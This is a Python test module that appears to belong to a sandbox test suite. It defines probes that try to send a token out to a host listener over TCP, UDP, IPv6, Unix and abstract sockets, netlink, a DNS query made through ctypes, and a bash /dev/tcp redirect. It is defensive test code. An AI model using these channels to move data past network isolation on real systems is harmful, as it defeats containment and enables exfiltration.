"""Attacks by way of the network: the oracle is a listener of the host's that hears the token."""

from __future__ import annotations

from tests.attacks import listeners
from tests.attacks.probe import Probe

PROBES = (
    Probe(
        "tcp",
        listeners.Listener,
        """
import socket
with socket.create_connection(ADDRESS, timeout=0.5) as connection:
    connection.sendall(TOKEN.encode())
""",
    ),
    Probe(
        "udp",
        listeners.UdpListener,
        """
import socket
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(TOKEN.encode(), ADDRESS)
""",
    ),
    Probe(
        "ipv6",
        listeners.Ipv6Listener,
        """
import socket
with socket.create_connection(ADDRESS[:2], timeout=0.5) as connection:
    connection.sendall(TOKEN.encode())
""",
    ),
    Probe(
        "abstract_socket",
        listeners.AbstractListener,
        """
import socket
connection = socket.socket(socket.AF_UNIX)
connection.connect(ADDRESS)
connection.sendall(TOKEN.encode())
""",
    ),
    Probe(
        "path_socket",
        listeners.PathListener,
        """
import socket
connection = socket.socket(socket.AF_UNIX)
connection.connect(ADDRESS)
connection.sendall(TOKEN.encode())
""",
    ),
    Probe(
        "netlink",
        listeners.NetlinkListener,
        """
import socket, struct
text = TOKEN.encode()
header = struct.pack("=IHHII", 16 + len(text), 16, 0, 0, 0)
socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 2).sendto(header + text, (ADDRESS[0], 0))
""",
    ),
    Probe(
        "dns",
        listeners.UdpListener,
        """
import ctypes, socket, struct
libc = ctypes.CDLL(None)
query = getattr(libc, "res_query", None) or ctypes.CDLL("libresolv.so.2").__res_query
libc.__res_state.restype = ctypes.c_void_p
libc.__res_init()
state = libc.__res_state()
server = struct.pack("=HH4s8x", socket.AF_INET, socket.htons(ADDRESS[1]), bytes([127, 0, 0, 1]))
ctypes.memmove(state, struct.pack("=ii", 1, 1), 8)  # one second to wait, one attempt
ctypes.memmove(state + 16, struct.pack("=i", 1) + server, 20)
answer = ctypes.create_string_buffer(512)
query((TOKEN + ".example").encode(), 1, 1, answer, 512)
""",
    ),
    Probe(
        "socket_of_a_child",
        listeners.Listener,
        """
import subprocess
text = f"exec 3<>/dev/tcp/{ADDRESS[0]}/{ADDRESS[1]}; echo {TOKEN} >&3"
subprocess.run(["/bin/bash", "-c", text])
""",
    ),
)
